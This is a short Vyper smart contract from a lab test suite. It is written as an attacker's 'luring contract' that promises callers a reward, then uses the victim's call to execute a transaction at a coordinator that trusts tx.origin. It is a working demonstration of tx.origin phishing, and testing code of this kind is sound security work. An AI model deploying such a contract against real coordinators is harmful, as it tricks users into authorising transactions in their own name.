# pragma version 0.4.3
"""
@title Luring Contract
@license MIT
@author Tesseract Lab
@notice An attacker's contract that promises its caller a reward and marks a transaction as executed in the caller's
        name. It succeeds only at a coordinator that trusts tx.origin. For the lab's tests.
"""

interface Coordinator:
    def mark_executed(tx_id: bytes32): nonpayable


@external
def claim_reward(coordinator: address, tx_id: bytes32):
    """
    @notice Promises a reward, and executes a transaction in the name of whoever falls for it.
    @param coordinator The coordinator.
    @param tx_id The transaction, ready to be executed.
    """
    extcall Coordinator(coordinator).mark_executed(tx_id)
